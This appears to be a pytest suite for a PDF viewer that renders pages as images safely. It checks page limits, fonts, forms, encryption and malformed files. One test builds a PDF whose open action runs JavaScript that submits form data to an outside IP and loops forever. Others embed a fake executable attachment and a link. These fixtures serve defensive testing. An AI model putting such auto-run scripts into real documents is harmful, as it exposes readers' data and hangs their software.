"""PDF: each page as a picture, early; what it would like to do is told and not done."""

import time

import pypdf
import pytest
from pypdf.generic import DictionaryObject, FloatObject, NameObject, TextStringObject

from corridor.viewing.door import Viewer
from corridor.viewing.errors import BrokenFileError, LockedError
from corridor.viewing.limits import Limits
from corridor.viewing.shown import Caution, Kind, Opened, Picture
from tests.viewing.files import link, many_pages, pdf
from tests.viewing.looking import Look, ink

DECLARED = "application/pdf"


def test_each_page_becomes_a_picture_of_its_own(look: Look) -> None:
    seen = look(pdf("one", "", "three"), declared=DECLARED)

    assert (seen.kind, seen.opened.pages) == (Kind.PDF, 3)
    assert [one.number for one in seen.pictures] == [1, 2, 3]
    assert [ink(image) > 1000 for image in seen.images] == [True, False, True]
    assert seen.warned == set()


def test_russian_letters_that_the_file_does_not_bring_are_drawn_with_ours(look: Look) -> None:
    unnamed = b"/Differences[65/afii10017/afii10018/afii10019]"
    page = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>endobj\n"
        b"4 0 obj<</Length 39>>stream\nBT /F1 60 Tf 60 600 Td (ABC) Tj ET      \n"
        b"endstream endobj\n"
        b"5 0 obj<</Type/Font/Subtype/TrueType/BaseFont/Georgia/FirstChar 65/LastChar 67"
        b"/Widths[600 600 600]/Encoding<</Type/Encoding" + unnamed + b">>>>endobj\n"
        b"trailer<</Root 1 0 R>>\n"
    )

    assert ink(look(page).image) > 1000


def test_a_page_is_as_large_as_a_screen_can_use(look: Look) -> None:
    (shown,) = look(pdf("one")).pictures

    assert (shown.width, shown.height) == (1131, 1600)


def test_the_number_of_pages_is_known_before_the_first_is_drawn(viewer: Viewer) -> None:
    shown = viewer.convert([pdf("one", "two")], declared=DECLARED)

    first, second = next(shown), next(shown)

    assert first == Opened(kind=Kind.PDF, pages=2)
    assert isinstance(second, Picture)
    shown.close()


def test_a_file_of_fifty_thousand_pages_shows_its_beginning(look: Look) -> None:
    began = time.monotonic()

    seen = look(many_pages(50_000), limits=Limits(pages=3))

    assert seen.opened.pages == 50_000
    assert len(seen.pictures) == 3
    assert seen.cautions == {Caution.PAGES_LEFT_OUT: 49_997}
    assert time.monotonic() - began < 30


def test_pages_that_were_left_out_can_be_asked_for(look: Look) -> None:
    seen = look(pdf(*"abcdef"), limits=Limits(first=5, pages=28))

    assert [one.number for one in seen.pictures] == [5, 6]
    assert seen.warned == set()


def test_pages_beyond_the_last_are_no_fault(look: Look) -> None:
    seen = look(pdf("one"), limits=Limits(first=2))

    assert (seen.opened.pages, seen.pictures) == (1, [])


def with_script(writer: pypdf.PdfWriter, script: str) -> None:
    """Run when the file is opened, and kept under a name as well."""
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
    )
    placed = writer._add_object(action)
    writer.root_object[NameObject("/OpenAction")] = placed
    names = pypdf.generic.ArrayObject([TextStringObject("first"), placed])
    tree = DictionaryObject({NameObject("/Names"): names})
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def test_a_script_is_told_and_never_run(look: Look) -> None:
    script = "this.submitForm('http://203.0.113.9/'); app.alert('x'); while (true) {}"

    seen = look(pdf("one", change=lambda writer: with_script(writer, script)))

    assert seen.cautions[Caution.SCRIPTS] == 1
    assert len(seen.pictures) == 1


def test_a_file_inside_the_file_is_told_and_left_alone(look: Look) -> None:
    seen = look(
        pdf("one", change=lambda writer: writer.add_attachment("lure.exe", b"MZ" + bytes(99)))
    )

    assert seen.cautions == {Caution.ENCLOSED_FILES: 1}


def test_links_are_counted_and_none_is_live(look: Look) -> None:
    seen = look(pdf("one", change=lambda writer: link(writer, to="http://203.0.113.9/seen")))

    assert seen.cautions == {Caution.LINKS: 1}
    assert b"203.0.113.9" not in seen.pictures[0].webp


def test_what_was_filled_into_a_form_is_drawn(look: Look) -> None:
    def with_field(writer: pypdf.PdfWriter) -> None:
        rectangle = pypdf.generic.ArrayObject([FloatObject(at) for at in (60, 300, 500, 400)])
        field = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("name"),
                NameObject("/V"): TextStringObject("Heron Heron Heron"),
                NameObject("/DA"): TextStringObject("/Helv 40 Tf 0 g"),
                NameObject("/Rect"): rectangle,
            }
        )
        placed = writer._add_object(field)
        writer.pages[0][NameObject("/Annots")] = pypdf.generic.ArrayObject([placed])
        form = DictionaryObject({NameObject("/Fields"): pypdf.generic.ArrayObject([placed])})
        writer.root_object[NameObject("/AcroForm")] = writer._add_object(form)

    empty, filled = look(pdf("")), look(pdf("", change=with_field))

    assert ink(filled.image) > ink(empty.image)


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_a_file_with_a_password_says_so(look: Look, algorithm: str) -> None:
    locked = pdf("one", change=lambda writer: writer.encrypt("a password", algorithm=algorithm))

    with pytest.raises(LockedError):
        look(locked)


def test_a_file_that_only_forbids_printing_is_shown(look: Look) -> None:
    seen = look(
        pdf("one", change=lambda writer: writer.encrypt("", "owner", algorithm="RC4-128"))
    )

    assert ink(seen.image) > 1000


@pytest.mark.parametrize("kept", [0.2, 0.5, 0.9])
def test_a_file_that_is_cut_is_refused_or_shown_as_far_as_it_goes(
    look: Look, kept: float
) -> None:
    whole = pdf("one", "two", "three")

    try:
        seen = look(whole[: int(len(whole) * kept)])
    except BrokenFileError:
        return
    assert len(seen.pictures) <= 3


@pytest.mark.parametrize(
    "size", ["0 0 0 0", "0 0 -5 -5", "0 0 1e30 1e30", "0 0 99999999 1", "0 0 14400 14400"]
)
def test_a_page_of_an_absurd_size_costs_no_more_than_any_other(look: Look, size: str) -> None:
    odd = many_pages(1).replace(b"0 0 595 842", size.encode())

    try:
        seen = look(odd)
    except BrokenFileError:
        return
    assert all(max(one.width, one.height) <= 1601 for one in seen.pictures)
